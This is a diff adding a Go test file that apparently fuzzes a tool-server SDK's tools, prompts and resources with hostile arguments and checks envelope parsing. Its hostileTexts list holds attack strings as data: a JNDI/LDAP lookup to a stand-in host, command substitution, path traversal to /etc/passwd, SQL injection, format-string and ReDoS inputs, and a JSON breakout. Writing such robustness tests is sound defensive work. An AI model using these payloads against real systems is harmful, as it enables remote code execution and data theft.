@@ -1,0 +1,158 @@
+package trial
+
+import (
+	"context"
+	"fmt"
+	"strings"
+
+	"github.com/killdeer-mcp/killdeer/internal/wasm"
+	"github.com/killdeer-mcp/killdeer/sdk"
+	"github.com/killdeer-mcp/killdeer/sdk/guest"
+)
+
+// hostileTexts are what attackers send where a text may stand, as JSON strings.
+var hostileTexts = []string{
+	`""`,
+	`"\u0000"`,
+	`"\ud800"`,
+	`"` + strings.Repeat("A", 64<<10) + `"`,
+	`"` + strings.Repeat("\U0001d518", 4<<10) + `"`,
+	`"\"}],\"isError\":false,\"x\":[{\"y\":\""`,
+	`"\\\\\\\"\u2028\u2029\b\f\n\r\t"`,
+	`"{{canary:aws_key:x}}{{fake:login:1}}{{mark:canary:aws_key:x}}{{"`,
+	`"{{.}}{{range .}}{{end}}${jndi:ldap://192.0.2.1/a}$(id)` + "`id`" + `%s%n%x"`,
+	`"../../../../etc/passwd"`,
+	`"' OR '1'='1' -- "`,
+	`"(a+)+$"`,
+	`"-1"`,
+	`"` + strings.Repeat("[", 4<<10) + `"`,
+}
+
+// hostileNumbers are what attackers send where a number may stand.
+var hostileNumbers = []string{"-1", "0", "9223372036854775807", "-9223372036854775808", "1e308", "-0.0", "0.1", "9007199254740993"}
+
+// hostile calls every tool with what attackers send, as far as a sensor would let it
+// through, and sends envelopes that a later sensor may send.
+func (t *trial) hostile(ctx context.Context, subjects []subject) {
+	for _, s := range subjects {
+		for _, c := range t.attacks(s) {
+			if t.failed >= maxFailures || ctx.Err() != nil {
+				return
+			}
+			source := t.source()
+			t.report.Hostile++
+			t.call(ctx, s.name, source, c)
+			t.host.Release(source)
+		}
+	}
+	t.envelopes(ctx)
+}
+
+// attacks are the calls that replace each argument by each hostile value.
+func (t *trial) attacks(s subject) []*sdk.Call {
+	if len(s.calls) == 0 {
+		return nil
+	}
+	var all []*sdk.Call
+	with := func(args []byte) {
+		if s.schema != nil {
+			if problems, err := s.schema.Problems(args); err != nil || problems != nil {
+				return // the sensor would refuse it
+			}
+		}
+		c := *s.calls[0]
+		c.Args = args
+		all = append(all, &c)
+	}
+	base, _ := guest.ParseObject(s.calls[0].Args)
+	switch s.calls[0].Op {
+	case sdk.OpCall:
+		for _, key := range base.Keys() {
+			for _, v := range append(hostileTexts, hostileNumbers...) {
+				with(replaced(base, key, v))
+			}
+		}
+		with(replaced(base, "unexpected", `{"a":`+strings.Repeat("[", 40)+strings.Repeat("]", 40)+`}`))
+		with([]byte("{}"))
+	case sdk.OpPrompt:
+		for _, key := range base.Keys() {
+			for _, v := range hostileTexts {
+				with(replaced(base, key, v))
+			}
+		}
+	case sdk.OpResource:
+		if s.calls[0].Template == "" {
+			return nil
+		}
+		vars, _ := guest.ParseObject(s.calls[0].Vars)
+		for _, key := range vars.Keys() {
+			for _, v := range hostileTexts {
+				c := *s.calls[0]
+				c.Vars = replaced(vars, key, v)
+				all = append(all, &c)
+			}
+		}
+	case sdk.OpComplete:
+		argument, _ := guest.ParseObject(s.calls[0].Argument)
+		for _, v := range hostileTexts {
+			c := *s.calls[0]
+			c.Argument = replaced(argument, "value", v)
+			all = append(all, &c)
+		}
+	}
+	return all
+}
+
+// replaced is an object with one member replaced, or added.
+func replaced(o guest.Object, key, value string) []byte {
+	var w guest.Writer
+	w.Obj()
+	found := false
+	for _, k := range o.Keys() {
+		w.Key(k)
+		if k == key {
+			found = true
+			w.Raw([]byte(value))
+		} else {
+			w.Raw(o.Raw(k))
+		}
+	}
+	if !found {
+		w.Key(key).Raw([]byte(value))
+	}
+	return w.End().Bytes()
+}
+
+// envelopes sends the first call in forms that the ABI allows and that this host
+// does not use.
+func (t *trial) envelopes(ctx context.Context) {
+	if len(t.done) == 0 || t.failed > 0 {
+		return
+	}
+	r := t.done[0]
+	o, err := guest.ParseObject(r.request.Input)
+	if err != nil {
+		return
+	}
+	var reversed guest.Writer
+	reversed.Obj()
+	keys := o.Keys()
+	for i := len(keys) - 1; i >= 0; i-- {
+		reversed.Key(keys[i]).Raw(o.Raw(keys[i]))
+	}
+	for _, e := range []struct{ what, remedy, in string }{
+		{"with its members in another order", "read the envelope as JSON: the order of keys is free", string(reversed.End().Bytes())},
+		{"with a member that the ABI may get one day", "ignore members that you do not know", string(replaced(o, "later", `{"a":[1,null,{"b":"c"}]}`))},
+		{"with space between its tokens", "read the envelope as JSON: space is free", strings.Replace(string(r.request.Input), `"op":`, "\"op\" :\n\t", 1) + "\n"},
+	} {
+		t.report.Calls++
+		t.report.Hostile++
+		reply, err := t.guest.Guest.Call(ctx, wasm.Request{Input: []byte(e.in), Now: r.request.Now, Deadline: r.request.Deadline})
+		switch {
+		case err != nil:
+			t.found(Error, r.subject, fmt.Sprintf("the same envelope %s fails: %v", e.what, err), e.remedy)
+		case string(reply.Output) != string(r.output):
+			t.found(Error, r.subject, fmt.Sprintf("the same envelope %s is answered differently: %s", e.what, difference(r.output, reply.Output)), e.remedy)
+		}
+	}
+}
